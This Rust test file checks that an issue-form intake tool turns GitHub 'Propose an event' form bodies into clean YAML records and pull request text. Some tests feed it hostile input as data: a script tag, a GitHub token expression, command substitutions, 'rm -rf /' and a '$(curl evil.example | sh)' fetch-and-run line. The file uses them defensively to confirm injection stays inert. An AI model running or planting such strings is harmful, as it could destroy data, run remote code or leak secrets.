//! `accord intake` on real form bodies, as GitHub writes them for the "Propose an event" form
//! (`tests/forms/*.md`), including hostile ones: each gives a record that lints with only
//! placeholder findings (`A212`), snapshot with what could not be mapped and the pull request's
//! body.

use std::path::{Path, PathBuf};

use accord_intake::{Issue, form, intake, pull_request_body};
use accord_lint::Linter;

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn linter() -> Linter {
    let today = accord_schema::date::Day::parse("2026-01-01").expect("a day");
    Linter::load(&repo(), today).expect("the linter loads")
}

fn forms() -> Vec<PathBuf> {
    let mut found: Vec<PathBuf> =
        std::fs::read_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/forms"))
            .expect("forms")
            .map(|e| e.expect("entry").path())
            .filter(|p| p.extension().is_some_and(|e| e == "md"))
            .collect();
    found.sort();
    found
}

const HOSTILE_TITLE: &str =
    "[event] <script>alert(1)</script> ${{ github.token }} $(id) `whoami` \"; rm -rf / #";

/// What the linter finds in a record, other than placeholders.
fn findings_beyond_placeholders(linter: &Linter, path: &str, text: &str) -> Vec<String> {
    let mut report = linter.check_source(PathBuf::from(path), std::sync::Arc::from(text));
    linter.finish(&mut report);
    report
        .diagnostics
        .iter()
        .filter(|d| d.rule.code != "A212")
        .map(|d| format!("{} {:?} {}", d.rule.code, d.severity, d.message))
        .collect()
}

#[test]
fn each_form_gives_a_record_with_only_placeholders_left() {
    let linter = linter();
    let vocabularies = accord_schema::Vocabularies::load(&repo()).expect("vocabularies");
    for path in forms() {
        let name = path
            .file_stem()
            .expect("stem")
            .to_string_lossy()
            .into_owned();
        let body = std::fs::read_to_string(&path).expect("form");
        let title = if name == "hostile" {
            HOSTILE_TITLE.to_owned()
        } else {
            format!("[event] A proposed {name}")
        };
        let issue = Issue {
            number: Some(42),
            title: &title,
            body: &body,
            url: Some("https://github.com/accord-health/accord/issues/42"),
            opened: Some("2025-10-01T09:00:00Z"),
        };
        let made = intake(&issue, &vocabularies).expect("a record");
        let beyond = findings_beyond_placeholders(&linter, &made.record.path, &made.record.text);
        assert!(
            beyond.is_empty(),
            "{name}: {beyond:?}\n{}",
            made.record.text
        );
        // It parses as the YAML it claims to be, every value a plain string or list.
        accord_yaml::parse(&made.record.text).expect("YAML");
        insta::assert_snapshot!(
            format!("{name}"),
            format!(
                "{}\n{}\n--- not mapped\n{}\n--- pull request\n{}",
                made.record.path,
                made.record.text,
                made.unmapped.join("\n"),
                pull_request_body(&made, &issue)
            )
        );
    }
}

#[test]
fn the_hostile_body_stays_data() {
    let vocabularies = accord_schema::Vocabularies::builtin();
    let body = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/forms/hostile.md"),
    )
    .expect("form");
    let issue = Issue {
        number: Some(7),
        title: HOSTILE_TITLE,
        body: &body,
        ..Issue::default()
    };
    let made = intake(&issue, vocabularies).expect("a record");
    let doc = accord_yaml::parse(&made.record.text).expect("YAML");
    // The text arrives as values, whole, with no raw control character.
    let summary = doc.value["summary"].as_str().expect("summary");
    assert!(summary.contains("<script>alert(1)</script>"), "{summary}");
    assert!(
        summary.contains("${{ github.token }} $(curl evil.example | sh)"),
        "{summary}"
    );
    let raw = |c: char| c != '\n' && accord_lint::render::escape::is_unsafe(c);
    assert!(!made.record.text.chars().any(raw), "{}", made.record.text);
    // What follows a heading that is not the form's is still the answer it is under; a label
    // given twice keeps its first answer.
    assert!(summary.contains("key: value"), "{summary}");
    let parties: Vec<&str> = doc.value["parties"]
        .as_array()
        .expect("parties")
        .iter()
        .filter_map(|p| p["country"].as_str().or(p["organization"].as_str()))
        .collect();
    assert_eq!(parties[0], "PK");
    assert!(!made.record.text.contains("Mallory"));
    // The id and the path are made of the title's letters and digits only.
    assert!(
        made.record
            .id
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'),
        "{}",
        made.record.id
    );
    // The pull request's body is Markdown in which none of it is markup.
    let pr = pull_request_body(&made, &issue);
    assert!(!pr.contains("<img"), "{pr}");
    assert!(!pr.contains("${{"), "{pr}");
}

#[test]
fn a_body_of_a_megabyte_costs_what_its_caps_allow() {
    let vocabularies = accord_schema::Vocabularies::builtin();
    let body = format!(
        "### When did it happen?\n\n2025-01-05\n\n### Who took part?\n\n{}\n\n### What happened?\n\n{}\n\n### Sources\n\n{}",
        vec!["Pakistan"; 50_000].join(", "),
        "A ".repeat(400_000),
        "https://example.org/x\n".repeat(5_000)
    );
    assert!(body.len() > 1_000_000);
    let issue = Issue {
        title: "[event] A large proposal",
        body: &body,
        ..Issue::default()
    };
    let started = std::time::Instant::now();
    let made = intake(&issue, vocabularies).expect("a record");
    // (Not a timing test: the bound is on what is kept.)
    let _ = started;
    assert!(
        made.record.text.len() < 20_000,
        "{} bytes",
        made.record.text.len()
    );
    assert!(
        made.unmapped
            .iter()
            .any(|n| n.contains("was cut at 5000 characters")),
        "{:?}",
        made.unmapped
    );
}

#[test]
fn the_form_parsed_is_the_form_published() {
    let template = std::fs::read_to_string(repo().join(".github/ISSUE_TEMPLATE/propose-event.yml"))
        .expect("template");
    let doc = accord_yaml::parse(&template).expect("YAML");
    let fields: Vec<(String, String)> = doc.value["body"]
        .as_array()
        .expect("body")
        .iter()
        .filter(|f| f["type"] != "markdown")
        .map(|f| {
            (
                f["id"].as_str().expect("id").to_owned(),
                f["attributes"]["label"].as_str().expect("label").to_owned(),
            )
        })
        .collect();
    let parsed: Vec<(String, String)> = form::FIELDS
        .iter()
        .map(|(id, label)| ((*id).to_owned(), (*label).to_owned()))
        .collect();
    assert_eq!(
        fields, parsed,
        "form.rs FIELDS and .github/ISSUE_TEMPLATE/propose-event.yml differ"
    );
}
